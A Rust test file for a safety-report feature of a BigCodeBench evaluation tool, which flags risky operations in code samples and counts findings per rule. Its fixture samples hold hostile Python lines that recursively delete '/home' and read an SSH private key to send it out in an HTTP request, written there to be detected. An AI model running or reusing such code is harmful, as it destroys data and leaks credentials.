//! `bcb syncheck --safety` on the real dataset: a sample's risky operations listed with task,
//! sample index, line, rule and snippet, a count per rule, `--format json`, and no change to
//! the exit status (the report is information).

mod evalkit;

use serde_json::{json, Value};

#[test]
fn safety_report_lists_findings_and_counts_per_rule() {
    let Some(data) = bcb_testkit::dataset_dir() else {
        return;
    };
    let dir = tempfile::tempdir().unwrap();
    let samples = dir.path().join("s.jsonl");
    let rows = [
        json!({"task_id": "BigCodeBench/0", "solution": "def task_func():\n    return 1\n"}),
        json!({"task_id": "BigCodeBench/0", "solution": "import os, shutil\ndef task_func():\n    os.system('rm -rf x')\n    shutil.rmtree('/home')\n"}),
        json!({"task_id": "BigCodeBench/1", "solution": "import requests\ndef task_func(u):\n    return requests.get(u, headers={'k': open('~/.ssh/id_rsa').read()})\n"}),
    ];
    let text: String = rows.iter().map(|r| format!("{r}\n")).collect();
    std::fs::write(&samples, text).unwrap();
    let args = |extra: &[&str]| {
        let mut c = evalkit::bcb_over(&data);
        c.args(["syncheck", "--ids", "0,1", "--safety", "--samples"])
            .arg(&samples)
            .args(extra);
        c.output().unwrap()
    };
    let out = args(&[]);
    assert!(out.status.success());
    let stdout = String::from_utf8_lossy(&out.stdout);
    assert!(
        stdout.contains("BigCodeBench/0 (line 2 in ")
            && stdout.contains("sample 1: line 3: shell: os.system('rm -rf x')"),
        "{stdout}"
    );
    assert!(
        stdout.contains("2/3 samples with risky operations; findings per rule: credentials 1, delete 1, network 1, shell 1"),
        "{stdout}"
    );
    let out = args(&["--format", "json"]);
    assert!(out.status.success());
    let v: Value = serde_json::from_slice(&out.stdout).expect("stdout is the JSON report only");
    assert_eq!(v["samples"], 3);
    assert_eq!(v["flagged_samples"], 2);
    assert_eq!(v["per_rule"]["shell"], 1);
    let first = &v["findings"][0];
    assert_eq!(
        (
            &first["task_id"],
            &first["sample"],
            &first["line"],
            &first["rule"]
        ),
        (
            &json!("BigCodeBench/0"),
            &json!(1),
            &json!(3),
            &json!("shell")
        )
    );
    // JSON is the safety report's format only.
    let out = evalkit::bcb_over(&data)
        .args(["syncheck", "--format", "json", "--samples"])
        .arg(&samples)
        .output()
        .unwrap();
    assert!(!out.status.success());
    assert!(String::from_utf8_lossy(&out.stderr).contains("hint: add --safety"));
}
